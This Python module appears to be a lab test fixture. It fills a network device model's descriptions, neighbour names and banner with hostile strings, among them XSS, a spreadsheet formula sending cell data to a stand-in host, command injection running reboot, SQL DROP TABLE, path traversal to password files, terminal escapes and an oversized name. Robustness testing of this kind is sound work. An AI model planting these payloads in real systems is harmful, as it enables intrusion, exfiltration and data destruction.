"""Texts by which a device attacks whoever reads it, put wherever a device's owner chooses the words."""

import msgspec

from lab.scenario.model import Device, Interface

HUGE = 1024 * 1024
TEXTS = (
    "<script>alert('lab')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://192.0.2.66/?"&A1,"open")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1-1|lab",
    "{{7*7}}{% for x in ().__class__.__mro__ %}x{% endfor %}",
    "\x1b[2J\x1b[31m\x1b]0;lab\x07gone\x1b[8m",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini\x08\x08\x08",
    "$(reboot);`reboot`|reboot&",
    "'; DROP TABLE assets; --",
    "\u202eexe.txt\u2066",
)


def hostile(device: Device) -> Device:
    """The same device with attacks in descriptions, neighbours' names and banner; one neighbour's name has a megabyte."""
    interfaces = [_attacking(one, number) for number, one in enumerate(device.interfaces)]
    linked = next((at for at, one in enumerate(interfaces) if one.neighbor and one.up and one.admin_up), None)
    if linked is not None:
        port = (interfaces[linked].neighbor or ("", ""))[1]
        name = (TEXTS[0] + "A" * HUGE)[:HUGE]
        interfaces[linked] = msgspec.structs.replace(interfaces[linked], neighbor=(name, port))
    banner = "\n".join([device.banner or "lab", "[root@lab ~]# ", "<lab>", *TEXTS, "-- lab --"])
    return msgspec.structs.replace(device, interfaces=interfaces, banner=banner)


def _attacking(one: Interface, number: int) -> Interface:
    text = TEXTS[number % len(TEXTS)]
    neighbor = (f"{one.neighbor[0]} {text}", f"{one.neighbor[1]} {text}") if one.neighbor else None
    return msgspec.structs.replace(one, description=f"{one.description} {text}".strip(), neighbor=neighbor)
